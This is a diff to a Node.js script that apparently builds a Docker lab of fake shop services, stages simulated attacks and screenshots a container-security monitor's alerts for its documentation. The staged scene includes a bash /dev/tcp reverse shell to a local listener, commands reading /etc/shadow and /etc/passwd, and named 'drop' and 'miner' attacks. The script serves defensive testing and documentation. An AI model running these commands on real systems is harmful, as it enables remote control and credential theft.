@@ -3,39 +3,52 @@
 // to docs/images, or to FOLDER: NAME-LANG-THEME-WIDTH.png. SKEP names the executable.
 import { mkdirSync } from 'node:fs';
 import path from 'node:path';
-import { Lab, Skep, byTestId, chromiumPath, firstSignIn, freePort, openBrowser, root, sleep, until } from './lib.mjs';
+
+import { browser as openBrowser, chromium, firstSignIn, Lab, missing, root, Skep, sleep, until } from './lib.mjs';
 
 const out = path.resolve(process.argv[2] ?? path.join(root, 'docs/images'));
-const lab = new Lab('screenshots');
-const missing = lab.missing() ?? (chromiumPath() ? undefined : 'chromium is not installed');
-if (missing) {
-  console.error(`screenshots: ${missing}`);
+const why = missing() ?? (chromium() ? null : 'no Chromium here');
+if (why) {
+  console.error(`screenshots: ${why}`);
   process.exit(1);
 }
+const lab = new Lab();
 
 /** A small shop, and what is done to it. */
 async function scene() {
-  const run = (name, image, ...cmd) =>
-    lab.docker('run', '-d', '--name', name, '--stop-signal', 'KILL', '--label', 'app=shop', image, 'sh', '-c', cmd.join(' '));
+  const run = (name, image, cmd) =>
+    lab.docker('run', '-d', '--name', name, '--stop-signal', 'KILL', '--label', 'app=shop', image, 'sh', '-c', cmd);
   // services that do a little, so that their process trees are worth a look
-  await run('shop-web', 'lab/base:1', 'mkdir -p /var/www/html; echo hello > /var/www/html/index.html;',
-    'httpd -p 8080 -h /var/www/html; while :; do wget -qO /dev/null http://127.0.0.1:8080/; sleep 2; done');
-  await run('shop-cart', 'lab/tools:1', 'python3 -c "import time; time.sleep(100000)" & while :; do date > /tmp/beat; sleep 5; done');
+  await run('shop-web', 'lab/tools:1', `cat > /srv/web.py <<'EOF'
+import socket
+s = socket.create_server(("127.0.0.1", 8080))
+while True:
+    c, _ = s.accept()
+    c.recv(4096)
+    c.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nhello")
+    c.close()
+EOF
+python3 /srv/web.py & sleep 1; while :; do wget -qO /dev/null http://127.0.0.1:8080/; sleep 4; done`);
+  // one that is taken over: what it was asked for becomes a shell with its streams at the attacker's
+  await lab.lab('listen', '4444', path.join(lab.dir, 'heard'));
+  await run('shop-cart', 'lab/tools:1', `cat > /srv/cart.py <<'EOF'
+import subprocess, time
+time.sleep(3)
+subprocess.Popen(["sh", "-c", "cd /tmp; bash -c 'exec 3<>/dev/tcp/172.17.0.1/4444; timeout 600 sh <&3 >&3 2>&3'; true"])
+time.sleep(100000)
+EOF
+exec python3 /srv/cart.py`);
   await run('shop-db', 'lab/base:1', 'while :; do echo tick >> /var/log/db.log; sleep 3; done');
   await run('shop-mail', 'lab/base:1', 'sleep 100000');
-  await sleep(1500);
-  lab.run('listen', '4444', path.join(lab.dir, 'scene.out'));
+  await sleep(4000);
   await lab.docker('exec', 'shop-web', 'sh', '-c', 'sh -c "id; cat /etc/shadow; cat /etc/passwd" >/dev/null');
-  await lab.docker('exec', '-d', 'shop-cart', 'bash', '-c',
-    `exec 3<>/dev/tcp/${lab.gateway}/4444; timeout 600 sh <&3 >&3 2>&3`);
-  for (const attack of ['shadow', 'drop', 'miner']) lab.run('attack', attack);
+  for (const attack of ['shadow', 'drop', 'miner']) await lab.lab('attack', attack);
   await sleep(2500);
 }
 
 async function shoot(page, name) {
-  await page.waitForLoadState('networkidle').catch(() => {}); // live updates keep one connection open
   await page.mouse.move(0, 0);
-  await sleep(700); // charts and drawers come in softly
+  await sleep(1000); // lists load, charts and drawers come in softly
   await page.screenshot({ path: path.join(out, `${name}.png`) });
 }
 
@@ -51,22 +64,22 @@ async function pictures(browser, skep, state, lang, theme, width) {
   const suffix = `${lang}-${theme}-${width}`;
   const go = async (where) => {
     await page.goto(skep.url + where);
-    await byTestId(page, 'lang-switch').waitFor({ timeout: 10000 });
-    const shown = (await byTestId(page, 'lang-switch').innerText()).includes('EN') ? 'zh' : 'en';
-    if (shown !== lang) await byTestId(page, 'lang-switch').click();
+    await page.getByTestId('lang-switch').waitFor({ timeout: 10000 });
+    const shown = (await page.getByTestId('lang-switch').innerText()).includes('EN') ? 'zh' : 'en';
+    if (shown !== lang) await page.getByTestId('lang-switch').click();
   };
   await go('/');
   await shoot(page, `overview-${suffix}`);
-  const [web] = (await skep.get('/containers?filter=name%20%3D%20shop-web')).items;
+  const [web] = await skep.list('containers', 'name = shop-web');
   await go(`/containers/${web.id}`);
-  await byTestId(page, 'process-tree').waitFor({ timeout: 10000 });
+  await page.getByTestId('process-tree').waitFor({ timeout: 10000 });
   await shoot(page, `container-${suffix}`);
   await go('/alerts');
-  await byTestId(page, 'alert-row').first().waitFor({ timeout: 10000 });
+  await page.getByTestId('alert-row').first().waitFor({ timeout: 10000 });
   await shoot(page, `alerts-${suffix}`);
-  const [alert] = await skep.alerts('container.name = shop-cart and priority = critical');
+  const [alert] = await skep.list('alerts', 'container.name = "shop-cart" and priority = critical');
   await go(`/alerts/${alert.id}`);
-  await byTestId(page, 'alert-ancestry').waitFor({ timeout: 10000 });
+  await page.getByTestId('alert-ancestry').waitFor({ timeout: 10000 });
   await shoot(page, `alert-${suffix}`);
   await context.close();
 }
@@ -75,25 +88,22 @@ mkdirSync(out, { recursive: true });
 let skep;
 let browser;
 try {
-  lab.up();
-  skep = new Skep(lab.socket, await freePort());
+  await lab.up();
+  await lab.lab('image', 'tools');
+  skep = new Skep(lab.socket);
   await skep.start();
   browser = await openBrowser();
-  const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: 'en-US' });
-  const password = 'only for the pictures';
-  await firstSignIn(await context.newPage(), skep, password);
+  const context = (await firstSignIn(browser, skep)).context();
   const state = await context.storageState();
   await context.close();
-  await skep.signIn('admin', password);
   await scene();
-  await until('the alerts of the scene', 10000, async () =>
-    (await skep.alerts('container.name = shop-cart and priority = critical')).length > 0);
+  await until(async () => (await skep.list('alerts', 'container.name = "shop-cart" and priority = critical')).length > 0, 10000);
   for (const lang of ['en', 'zh'])
     for (const theme of ['light', 'dark'])
       for (const width of [1440, 390]) await pictures(browser, skep, state, lang, theme, width);
 } finally {
   await browser?.close();
-  if (skep && !skep.exit) await skep.stop('SIGINT').catch((e) => console.error(e.message));
+  await skep?.stop();
   skep?.remove();
-  lab.down();
+  await lab.down();
 }
